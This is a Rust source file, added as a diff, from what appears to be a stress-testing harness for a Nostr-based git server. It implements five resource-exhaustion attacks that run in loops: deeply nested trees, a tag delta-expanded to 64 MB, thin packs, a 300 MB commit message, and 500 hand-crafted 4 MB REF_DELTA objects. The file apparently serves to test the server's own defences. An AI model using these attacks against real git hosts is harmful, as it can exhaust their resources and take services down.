@@ -1,0 +1,245 @@
+//! Attacks by what is in a pack: objects that are small as they come, and dear to unpack, to read or to check.
+
+use std::fmt::Write as _;
+
+use nostr::key::Keys;
+
+use crate::clients::nostr::now;
+use crate::clients::nostr::sign;
+use crate::clients::nostr::tag;
+use crate::harness::process::shell;
+use crate::siege::attack::Assault;
+use crate::siege::attack::Attack;
+use crate::siege::attack::BOTH;
+use crate::siege::attack::PAUSE;
+use crate::siege::attack::Route;
+use crate::siege::attack::side_by_side;
+use crate::siege::attacker::Attacker;
+use crate::siege::attacker::Command;
+use crate::siege::attacker::Request;
+use crate::siege::attacker::pkt_line;
+use crate::siege::own_repository::OwnRepository;
+use crate::siege::own_repository::address_of;
+use crate::siege::own_repository::random_id;
+use crate::siege::websocket::send_all;
+
+pub(super) const ATTACKS: &[Attack] = &[
+    Attack {
+        name: "nested-trees",
+        does: "a PR to the victim's repository whose commit has 2,100 nested trees",
+        costs: "100 KB",
+        worlds: BOTH,
+        route: Route::Direct,
+        prepare: |attacker| Box::pin(nested_trees(attacker)),
+    },
+    Attack {
+        name: "delta-of-a-large-tag",
+        does: "a small tag that is a delta of one of 64 MB, in a repository of his own; asks for its refs",
+        costs: "some 100 KB, and then requests",
+        worlds: BOTH,
+        route: Route::Direct,
+        prepare: |attacker| Box::pin(delta_of_a_large_tag(attacker)),
+    },
+    Attack {
+        name: "thin-packs",
+        does: "pushes of deltas against the victim's largest file, which the server completes",
+        costs: "1 KB a push",
+        worlds: BOTH,
+        route: Route::Direct,
+        prepare: |attacker| Box::pin(thin_packs(attacker)),
+    },
+    Attack {
+        name: "large-message",
+        does: "pushes of a commit with a message of 300 MB",
+        costs: "300 KB a push",
+        worlds: BOTH,
+        route: Route::Direct,
+        prepare: |attacker| Box::pin(large_message(attacker)),
+    },
+    Attack {
+        name: "deltas-of-zeros",
+        does: "pushes of 500 deltas that make 4 MB each",
+        costs: "20 KB a push",
+        worlds: BOTH,
+        route: Route::Direct,
+        prepare: |attacker| Box::pin(deltas_of_zeros(attacker)),
+    },
+];
+
+/// Pushes a pack to the victim's repository as the commit of one PR after the other.
+fn pushes(attacker: Attacker, lanes: usize, commit: String, pack: Vec<u8>) -> Assault {
+    Box::pin(async move {
+        side_by_side(lanes, |_| {
+            let (attacker, commit, pack) = (attacker.clone(), commit.clone(), pack.clone());
+            async move {
+                loop {
+                    let command = Command::pull_request(&random_id(), &commit);
+                    attacker.push(&attacker.victim.path, &[command], &pack).await;
+                    tokio::time::sleep(PAUSE).await;
+                }
+            }
+        })
+        .await;
+    })
+}
+
+async fn nested_trees(attacker: Attacker) -> Assault {
+    let own = OwnRepository::new(&attacker, "nested").await;
+    let path = "a/".repeat(2100);
+    let directory = attacker.folder.join(own.repository.npub());
+    let input = format!(
+        "blob\nmark :1\ndata 1\nx\ncommit refs/heads/deep\ncommitter A <a@example.com> 1 +0000\ndata 1\nx\n\
+         M 100644 :1 {path}f\n"
+    );
+    shell(&format!("git -C {} fast-import --quiet", directory.display()), &input).await;
+    let commit = own.git.rev_parse("refs/heads/deep").await;
+    let pack = own.pack(&format!("{commit}\n"), "").await;
+    Box::pin(async move {
+        let author = Keys::generate();
+        for number in 0.. {
+            let tags = [address_of(&attacker.victim.coordinate), tag(&["c", &commit])];
+            let pull_request = sign(&author, 1618, now() - number, &tags);
+            let command = Command::pull_request(&pull_request.id.to_hex(), &commit);
+            attacker.push(&attacker.victim.path, &[command], &pack).await;
+            send_all(&attacker, &[pull_request]).await;
+            tokio::time::sleep(PAUSE).await;
+        }
+    })
+}
+
+async fn delta_of_a_large_tag(attacker: Attacker) -> Assault {
+    let own = OwnRepository::new(&attacker, "tags").await;
+    let commit = own.git.commit("one").await;
+    let head = format!("object {commit}\ntype commit\ntag t\ntagger A <a@example.com> 1 +0000\n\n");
+    let small = own.object("tag", &format!("{head}{}\n", "a".repeat(200_000))).await;
+    let large = own.object("tag", &format!("{head}{}\n", "a".repeat(64 << 20))).await;
+    own.announce(&attacker, now() - 100, &[]).await;
+    let refs = [
+        ("refs/heads/main", commit.as_str()),
+        ("refs/tags/large", &large),
+        ("refs/tags/small", &small),
+    ];
+    own.push(&attacker, &refs, None, now() - 100).await;
+    let fields = "git-protocol: version=2\r\n";
+    let body = format!("{}0001{}0000", pkt_line("command=ls-refs\n"), pkt_line("peel\n"));
+    let request = Request::service(&own.path(), "git-upload-pack", fields, body.into_bytes());
+    let advertisement = Request::get(&format!("{}/info/refs?service=git-receive-pack", own.path()));
+    Box::pin(async move {
+        side_by_side(4, |_| {
+            let (attacker, request, advertisement) = (attacker.clone(), request.clone(), advertisement.clone());
+            async move {
+                loop {
+                    attacker.request(&request).await;
+                    attacker.request(&advertisement).await;
+                    tokio::time::sleep(PAUSE).await;
+                }
+            }
+        })
+        .await;
+    })
+}
+
+async fn thin_packs(attacker: Attacker) -> Assault {
+    let own = OwnRepository::new(&attacker, "thin").await;
+    let victim = format!("http://{}{}", attacker.server, attacker.victim.path);
+    own.git.run(&["fetch", "--quiet", &victim, "main"]).await.expect_ok();
+    own.git
+        .run(&["reset", "--quiet", "--hard", "FETCH_HEAD"])
+        .await
+        .expect_ok();
+    let file = attacker.folder.join(own.repository.npub()).join("blob");
+    let mut content = std::fs::read(file).unwrap();
+    content.push(b'x');
+    let commit = own.git.commit_file("blob", &content).await;
+    let pack = own
+        .pack(&format!("{commit}\n^{}\n", attacker.victim.tip), "--thin")
+        .await;
+    pushes(attacker, 2, commit, pack)
+}
+
+async fn large_message(attacker: Attacker) -> Assault {
+    let own = OwnRepository::new(&attacker, "message").await;
+    let tree = own.object("tree", "").await;
+    let person = "A <a@example.com> 1 +0000";
+    let mut message = format!("tree {tree}\nauthor {person}\ncommitter {person}\n\n");
+    write!(message, "{}", "a".repeat(300 << 20)).unwrap();
+    let commit = own.object("commit", &message).await;
+    let pack = own.pack(&format!("{commit}\n"), "").await;
+    pushes(attacker, 2, commit, pack)
+}
+
+async fn deltas_of_zeros(attacker: Attacker) -> Assault {
+    let own = OwnRepository::new(&attacker, "zeros").await;
+    let commit = own.git.commit_file("zeros", &vec![0; ZEROS]).await;
+    let pack = own.pack(&format!("{commit}\n"), "").await;
+    let file = attacker.folder.join("deltas.pack");
+    std::fs::write(
+        &file,
+        with_deltas(&pack, &bytes_of(&own.git.rev_parse("HEAD:zeros").await)),
+    )
+    .unwrap();
+    // A pack ends with the hash of what is before.
+    let sum = shell(&format!("sha1sum {}", file.display()), "").await;
+    let mut pack = std::fs::read(&file).unwrap();
+    pack.extend(bytes_of(&sum[..40]));
+    pushes(attacker, 2, commit, pack)
+}
+
+fn bytes_of(digits: &str) -> Vec<u8> {
+    let pairs = digits
+        .as_bytes()
+        .chunks(2)
+        .map(|pair| std::str::from_utf8(pair).unwrap());
+    pairs.map(|pair| u8::from_str_radix(pair, 16).unwrap()).collect()
+}
+
+/// Appends objects that are deltas of one base: all of it, and a number (`gitformat-pack(5)`).
+fn with_deltas(pack: &[u8], base: &[u8]) -> Vec<u8> {
+    let objects = u32::from_be_bytes(pack[8..12].try_into().unwrap());
+    let mut changed = pack[..8].to_vec();
+    changed.extend((objects + DELTAS).to_be_bytes());
+    changed.extend(&pack[12..pack.len() - 20]);
+    for number in 0..DELTAS {
+        let mut delta = size(ZEROS);
+        delta.extend(size(ZEROS + 4));
+        // Copies: offset and size of 24 bits at most. 0x400000 is 4 MB.
+        delta.extend([0b1100_0000, (ZEROS >> 16) as u8]);
+        delta.push(4);
+        delta.extend(number.to_be_bytes());
+        // Type 7 (REF_DELTA), and the size in 4 bits.
+        changed.push(0x70 | u8::try_from(delta.len()).unwrap());
+        changed.extend(base);
+        changed.extend(stored(&delta));
+    }
+    changed
+}
+
+/// A number of 7 bits a byte.
+fn size(mut number: usize) -> Vec<u8> {
+    let mut bytes = Vec::new();
+    while number > 0x7f {
+        bytes.push((number & 0x7f) as u8 | 0x80);
+        number >>= 7;
+    }
+    bytes.push(number as u8);
+    bytes
+}
+
+/// Bytes as zlib keeps them where it does not compress (RFC 1950, RFC 1951 3.2.4).
+fn stored(bytes: &[u8]) -> Vec<u8> {
+    let length = u16::try_from(bytes.len()).unwrap();
+    let (mut a, mut b) = (1_u32, 0_u32);
+    for byte in bytes {
+        a = (a + u32::from(*byte)) % 65_521;
+        b = (b + a) % 65_521;
+    }
+    let mut stored = vec![0x78, 0x01, 0x01];
+    stored.extend(length.to_le_bytes());
+    stored.extend((!length).to_le_bytes());
+    stored.extend(bytes);
+    stored.extend((b << 16 | a).to_be_bytes());
+    stored
+}
+
+const ZEROS: usize = 4 << 20;
+const DELTAS: u32 = 500;
